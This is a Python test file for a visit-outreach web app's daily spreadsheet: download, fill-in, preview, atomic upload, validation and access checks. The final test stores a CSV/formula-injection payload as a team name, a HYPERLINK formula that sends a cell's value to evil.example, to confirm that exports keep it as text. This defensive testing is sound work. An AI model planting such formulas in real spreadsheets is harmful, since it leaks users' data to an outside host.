"""A team's day as a spreadsheet: downloaded from the day sheet's page, filled in with openpyxl
as an officer fills it in Excel, uploaded through the test client — the preview of every row,
then all of it saved in one go or nothing, each visit once."""

from __future__ import annotations

import io
import re
from html import unescape

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from outreach.i18n import office_today
from outreach.models import (
    AuditEvent,
    DisabilityKind,
    ResidentCategory,
    ResidentStatus,
    Role,
    Visit,
    VisitStatus,
    utcnow,
)
from outreach.services.visits.changes import Who
from outreach.services.visits.lifecycle import STUDENTS_MAX
from outreach.services.visits.outcomes import SchoolOutcome, record_school_outcome
from outreach.web.visits.sheet_file import COLUMNS
from tests.conftest import hidden_value
from tests.services.visit_helpers import add_visit

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def officer(make_user):
    return make_user(Role.OFFICER, name="Dedi Kurniawan")


@pytest.fixture
def day_of(db_session, officer, make_school, make_resident):
    """Today's stops of the officer's team: a school, then three homes (the last one a
    disabled resident whose kind of disability is not known yet)."""
    team, today = officer.team, office_today()
    school = make_school(name="SMA Negeri 5 Kota Bengkulu", students_pending=40)
    visits = [add_visit(db_session, school=school, team=team, on=today)]
    for n, name in enumerate(("Nenek Sulastri", "Kakek Harun", "Ibu Wati"), start=1):
        extra = {}
        if name == "Ibu Wati":
            extra = {"category": ResidentCategory.DISABILITAS}
        resident = make_resident(name=name, **extra)
        visits.append(add_visit(db_session, resident=resident, team=team, on=today, route_order=n))
    return team, today, visits


def sheet_url(team, day, what="day-sheet.xlsx"):
    return f"/visits/{what}?team={team.id}&day={day.isoformat()}"


def download(client, team, day):
    response = client.get(sheet_url(team, day))
    assert response.status_code == 200, response.status_code
    assert response.content_type == XLSX
    return load_workbook(io.BytesIO(response.data))


def headings(client) -> dict[str, str]:
    """The sheet's headings by field, in the language the app speaks."""
    with client.application.test_request_context():
        return {name: str(label) for name, label in COLUMNS.items()}


def fill(workbook, client, values: dict[int, dict[str, object]]) -> bytes:
    """The workbook with ``values`` typed in: {visit id: {field: cell}}; its bytes."""
    sheet = workbook.worksheets[0]
    names = {cell.value: cell.column for cell in sheet[1]}
    column = {field: names[heading] for field, heading in headings(client).items()}
    for row in range(2, sheet.max_row + 1):
        visit_id = sheet.cell(row=row, column=column["visit"]).value
        for field, value in values.get(visit_id, {}).items():
            sheet.cell(row=row, column=column[field], value=value)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def upload(client, team, day, data: bytes, name="hari.xlsx"):
    """Upload ``data``; the preview page's HTML."""
    response = client.post(
        sheet_url(team, day, "day-sheet/upload"),
        data={"file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    preview = response.headers["Location"]
    page = client.get(preview)
    assert page.status_code == 200
    return preview, page.get_data(as_text=True)


def count(html: str, state: str) -> int:
    return int(re.search(rf'data-testid="count-{state}">(\d+)<', html).group(1))


def rows_of(html: str, state: str) -> list[str]:
    """The rows of one state's table, as the user reads them."""
    table = re.search(rf'data-testid="rows-{state}">.*?<tbody>(.*?)</tbody>', html, re.S)
    if table is None:
        return []
    rows = re.findall(r"<tr>(.*?)</tr>", table.group(1), re.S)
    return [re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]+>", " ", row))).strip() for row in rows]


def outcome_events(db_session) -> int:
    return db_session.scalar(
        select(func.count()).select_from(AuditEvent).where(AuditEvent.action == "visit.outcome")
    )


def test_a_filled_day_sheet_saves_every_outcome_in_one_go(
    client, login, officer, day_of, db_session
):
    team, today, (school, sulastri, harun, wati) = day_of
    login(officer)
    page = client.get(sheet_url(team, today, "day-sheet")).get_data(as_text=True)
    assert 'data-testid="day-sheet-xlsx"' in page and 'data-testid="day-sheet-upload"' in page
    response = client.get(sheet_url(team, today))
    assert (
        f'filename="hari-tim-{team.id}-{today.isoformat()}.xlsx"'
        in response.headers["Content-Disposition"]
    )
    workbook = load_workbook(io.BytesIO(response.data))
    rows = list(workbook.worksheets[0].iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in rows] == [school.id, sulastri.id, harun.id, wati.id]  # the route
    assert rows[0][1] == "Kunjungan sekolah" and rows[1][2] == "Nenek Sulastri"
    data = fill(
        workbook,
        client,
        {
            school.id: {"recorded": 25, "not_recorded": 3, "reason": "Sakit, menyusul"},
            sulastri.id: {"outcome": "Terekam", "notes": "Lewat pintu samping"},
            harun.id: {"outcome": "tidak di rumah"},  # typed, not picked: any case
        },
    )
    preview, html = upload(client, team, today, data)
    assert (count(html, "save"), count(html, "same"), count(html, "empty")) == (3, 0, 1)
    assert count(html, "invalid") == 0
    assert [row.split(" ")[0] for row in rows_of(html, "save")] == ["2", "3", "4"]
    assert "Nenek Sulastri" in rows_of(html, "save")[1]
    assert outcome_events(db_session) == 0

    saved = client.post(preview, data={"seen": hidden_value(html, "seen")})
    assert saved.status_code == 302 and "/visits/day-sheet?" in saved.headers["Location"]
    db_session.expire_all()
    school, sulastri, harun, wati = (db_session.get(Visit, v.id) for v in day_of[2])
    assert school.status is VisitStatus.COMPLETED
    assert (school.students_recorded, school.students_not_recorded) == (25, 3)
    assert school.not_recorded_reason == "Sakit, menyusul"
    assert school.school.students_pending == 15  # 40 less the 25 recorded
    assert school.completed_by_id == officer.id
    assert sulastri.resident.status is ResidentStatus.RECORDED
    assert sulastri.notes == "Lewat pintu samping"
    assert harun.status is VisitStatus.COMPLETED
    assert harun.resident.status is ResidentStatus.WAITING  # back in the queue
    assert wati.status is not VisitStatus.COMPLETED  # not filled: left as it was
    uploads = db_session.scalars(
        select(AuditEvent).where(AuditEvent.action == "visit.sheet_upload")
    ).all()
    assert len(uploads) == 1 and uploads[0].entity_id == str(team.id)
    assert {k: uploads[0].changes[k] for k in ("saved", "unchanged", "not_filled")} == {
        "saved": 3,
        "unchanged": 0,
        "not_filled": 1,
    }
    assert outcome_events(db_session) == 3


def test_the_same_file_uploaded_again_is_unchanged_and_saves_nothing(
    client, login, officer, day_of, db_session
):
    team, today, (school, sulastri, harun, wati) = day_of
    login(officer)
    data = fill(
        download(client, team, today),
        client,
        {
            school.id: {"recorded": 30},
            sulastri.id: {"outcome": "Terekam"},
            wati.id: {"outcome": "Terekam", "disability": "Netra"},
        },
    )
    preview, html = upload(client, team, today, data)
    assert client.post(preview, data={"seen": hidden_value(html, "seen")}).status_code == 302
    assert outcome_events(db_session) == 3
    db_session.expire_all()
    assert db_session.get(Visit, wati.id).resident.disability is DisabilityKind.VISUAL

    again, html = upload(client, team, today, data)
    assert (count(html, "same"), count(html, "save"), count(html, "invalid")) == (3, 0, 0)
    assert 'data-testid="confirm-import"' not in html
    assert 'data-testid="nothing-to-save"' in html
    response = client.post(again, data={"seen": ""})  # no button: posted anyway
    assert response.status_code == 200
    assert outcome_events(db_session) == 3  # nothing recorded twice

    # the file downloaded now holds what was recorded, and uploads as unchanged too
    rows = list(download(client, team, today).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert rows[0][5] == 30 and rows[1][8] == "Terekam"
    fresh = fill(download(client, team, today), client, {})
    _preview, html = upload(client, team, today, fresh)
    assert (count(html, "same"), count(html, "empty")) == (3, 1)


def test_a_wrong_row_is_listed_with_its_column_and_nothing_is_saved(
    client, login, officer, day_of, db_session
):
    team, today, (school, sulastri, harun, wati) = day_of
    login(officer)
    data = fill(
        download(client, team, today),
        client,
        {
            school.id: {"recorded": 20, "not_recorded": 3},  # no reason given
            sulastri.id: {"outcome": "Hadir"},  # no outcome of the list
            harun.id: {"outcome": "Menolak", "recorded": 4},  # a school cell on a home row
            wati.id: {"outcome": "Terekam"},  # a good row
        },
    )
    preview, html = upload(client, team, today, data)
    assert count(html, "invalid") == 3 and count(html, "save") == 1
    wrong = rows_of(html, "invalid")
    names = headings(client)
    assert wrong[0].startswith(f"2 {school.id} SMA Negeri 5 Kota Bengkulu")
    assert f"{names['reason']}: Tulis alasannya." in wrong[0]
    assert wrong[1].startswith(f"3 {sulastri.id}") and f"{names['outcome']}:" in wrong[1]
    assert "Hadir" not in wrong[1] and "Terekam" in wrong[1]  # says what it may be
    assert wrong[2].startswith(f"4 {harun.id}") and f"{names['recorded']}:" in wrong[2]
    assert 'data-testid="import-blocked"' in html and 'data-testid="confirm-import"' not in html

    response = client.post(preview, data={"seen": ""})  # no button: posted anyway
    assert response.status_code == 200
    db_session.expire_all()
    assert outcome_events(db_session) == 0
    statuses = {db_session.get(Visit, v.id).status for v in day_of[2]}
    assert VisitStatus.COMPLETED not in statuses


def test_a_visit_twice_in_the_file_and_a_number_not_of_the_day_are_wrong(
    client, login, officer, day_of, db_session, make_team, make_school
):
    team, today, (school, sulastri, harun, wati) = day_of
    login(officer)
    other = add_visit(db_session, school=make_school(), team=make_team(), on=today)
    workbook = download(client, team, today)
    sheet = workbook.worksheets[0]
    sheet.cell(row=3, column=9, value="Terekam")
    sheet.append([sulastri.id, None, None, None, None, None, None, None, "Menolak"])
    sheet.append([other.id, None, None, None, None, 12])  # another team's visit
    sheet.append(["12a", None, None, None, None, 12])
    out = io.BytesIO()
    workbook.save(out)
    _preview, html = upload(client, team, today, out.getvalue())
    wrong = rows_of(html, "invalid")
    assert count(html, "invalid") == 4 and count(html, "save") == 0
    assert wrong[0].startswith(f"3 {sulastri.id}") and "3, 6" in wrong[0]
    assert wrong[1].startswith(f"6 {sulastri.id}") and "3, 6" in wrong[1]
    assert wrong[2].startswith(f"7 {other.id} —")  # named no more than a number no visit has
    assert wrong[3].startswith("8 12a —")


def test_an_outcome_recorded_since_the_preview_saves_nothing_and_shows_it(
    client, login, officer, day_of, db_session
):
    team, today, (school, sulastri, harun, wati) = day_of
    login(officer)
    data = fill(
        download(client, team, today),
        client,
        {school.id: {"recorded": 25}, sulastri.id: {"outcome": "Terekam"}},
    )
    preview, html = upload(client, team, today, data)
    seen = hidden_value(html, "seen")
    visit = db_session.get(Visit, school.id)
    record_school_outcome(  # a colleague, on the form, meanwhile
        db_session,
        visit,
        SchoolOutcome(recorded=19),
        now=utcnow(),
        today=today,
        who=Who(officer),
        version=None,
    )
    db_session.commit()
    response = client.post(preview, data={"seen": seen})
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and 'role="alert"' in html
    wrong = rows_of(html, "invalid")
    assert len(wrong) == 1 and wrong[0].startswith(f"2 {school.id}")
    assert "Dedi Kurniawan" in wrong[0]  # who recorded the outcome that stands
    db_session.expire_all()
    assert db_session.get(Visit, sulastri.id).status is not VisitStatus.COMPLETED
    assert db_session.get(Visit, school.id).students_recorded == 19
    assert outcome_events(db_session) == 1


def test_another_teams_day_is_not_found_for_an_officer(
    client, login, officer, make_team, make_user, day_of
):
    other = make_team()
    today = office_today()
    login(officer)
    for what in ("day-sheet.xlsx", "day-sheet/upload"):
        assert client.get(sheet_url(other, today, what)).status_code == 404
    response = client.post(
        sheet_url(other, today, "day-sheet/upload"),
        data={"file": (io.BytesIO(b"x"), "a.xlsx")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 404
    client.post("/logout")
    login(make_user(Role.COORDINATOR))
    assert client.get(sheet_url(day_of[0], today)).status_code == 200  # any team's


def test_the_file_offers_lists_and_number_checks_and_greys_what_does_not_apply(
    client, login, officer, day_of
):
    team, today, (school, sulastri, harun, wati) = day_of
    login(officer)
    workbook = download(client, team, today)
    sheet = workbook.worksheets[0]
    assert workbook.sheetnames[0] == "Lembar harian"
    lists = workbook.worksheets[-1]
    assert lists.sheet_state == "hidden"
    validations = {}
    for validation in sheet.data_validations.dataValidation:
        validations.setdefault(validation.type, []).append(validation)
    assert {"list", "whole"} <= set(validations)
    counts = {(str(v.sqref), v.formula1, v.formula2) for v in validations["whole"]}
    assert counts == {("F2", "0", str(STUDENTS_MAX)), ("G2", "0", str(STUDENTS_MAX))}
    outcome_list, disability_list = validations["list"]
    ref = outcome_list.formula1.split("!")[1].replace("$", "")
    offered = [cell.value for row in lists[ref] for cell in row]
    assert offered[:3] == ["Terekam", "Tidak di rumah", "Menolak"]
    # the outcome list on the three home rows only, the disability list on Ibu Wati's only
    assert str(outcome_list.sqref) == "I3 I4 I5"
    assert str(disability_list.sqref) == "J5"
    assert sheet["I2"].fill.fgColor.rgb.endswith("D9D9D9")  # a school row's home outcome
    assert sheet["F3"].fill.fgColor.rgb.endswith("D9D9D9")  # a home row's school count
    assert workbook.worksheets[1].max_row > 3  # how to fill it in


def test_a_day_not_come_yet_cannot_take_outcomes(client, login, officer, db_session, make_resident):
    from datetime import timedelta

    tomorrow = office_today() + timedelta(days=1)
    visit = add_visit(db_session, resident=make_resident(), team=officer.team, on=tomorrow)
    login(officer)
    data = fill(
        download(client, officer.team, tomorrow), client, {visit.id: {"outcome": "Terekam"}}
    )
    _preview, html = upload(client, officer.team, tomorrow, data)
    assert count(html, "invalid") == 1
    assert "Kunjungan ini dijadwalkan" in rows_of(html, "invalid")[0]


def test_a_file_without_the_visit_number_column_is_refused(client, login, officer, day_of):
    team, today, _visits = day_of
    login(officer)
    response = client.post(
        sheet_url(team, today, "day-sheet/upload"),
        data={"file": (io.BytesIO(b"name;outcome\nSulastri;Terekam\n"), "a.csv")},
        content_type="multipart/form-data",
    )
    page = client.get(response.headers["Location"])
    assert page.status_code == 422
    assert 'data-testid="import-error"' in page.get_data(as_text=True)


def test_cancelling_the_preview_forgets_the_file(client, login, officer, day_of, db_session):
    team, today, (school, *_homes) = day_of
    login(officer)
    data = fill(download(client, team, today), client, {school.id: {"recorded": 9}})
    preview, _html = upload(client, team, today, data)
    token = preview.split("?")[0].rsplit("/", 1)[1]
    cancelled = client.post(f"/visits/day-sheet/upload/{token}/discard?team={team.id}")
    assert cancelled.status_code == 302 and "/visits/day-sheet?" in cancelled.headers["Location"]
    gone = client.get(preview)
    assert gone.status_code == 302 and "/visits/day-sheet/upload?" in gone.headers["Location"]
    assert outcome_events(db_session) == 0


def test_a_team_name_that_reads_as_a_formula_stays_text(client, login, officer, day_of, db_session):
    team, today, _visits = day_of
    team.name = '=HYPERLINK("http://evil.example/?x="&A2,"klik")'
    db_session.commit()
    login(officer)

    workbook = download(client, team, today)

    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
